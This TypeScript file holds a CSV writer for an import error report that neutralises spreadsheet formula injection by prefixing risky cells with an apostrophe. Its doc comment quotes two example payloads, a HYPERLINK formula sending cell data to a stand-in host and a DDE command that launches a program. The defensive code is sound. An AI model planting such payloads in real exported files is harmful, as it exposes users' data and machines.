// What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, and tab or CR,
// which some spreadsheets skip before looking for one of those.
const FORMULA_START = /^[=+\-@\t\r]/;
const NEEDS_QUOTES = /[",\r\n]/;

/**
 * Writes rows as RFC 4180 CSV: `,` between cells, CRLF after every row (the last too), and a cell that holds `"`,
 * `,`, CR or LF quoted with its quotes doubled. Meant for the error report a user downloads after an import.
 *
 * That report echoes cells from the user's own upload, and the file is opened in a spreadsheet, which runs a cell
 * starting with `=`, `+`, `-`, `@`, tab or CR as a formula: `=HYPERLINK("https://evil.example/?"&A1, "Fix")` can
 * send data away, `=cmd|' /C calc'!A0` can run a program (DDE). So, as OWASP advises, such a cell gets a leading
 * `'`, which makes a spreadsheet show it as text. The price is a visible `'` before a negative number such as
 * "-5"; a report of problems is worth that. For Excel to read non-ASCII text right, serve the result with a
 * byte-order mark in front (`'\uFEFF' + toCsv(rows)`).
 *
 * @example
 * toCsv([['row', 'problem'], ['3', 'width "abc" is not a number'], ['7', '=1+1']]);
 * // 'row,problem\r\n3,"width ""abc"" is not a number"\r\n7,\'=1+1\r\n'
 */
export function toCsv(rows: readonly (readonly string[])[]): string {
  return rows.map((cells) => `${cells.map(toCsvCell).join(',')}\r\n`).join('');
}

function toCsvCell(value: string): string {
  const safe = FORMULA_START.test(value) ? `'${value}` : value;
  return NEEDS_QUOTES.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}
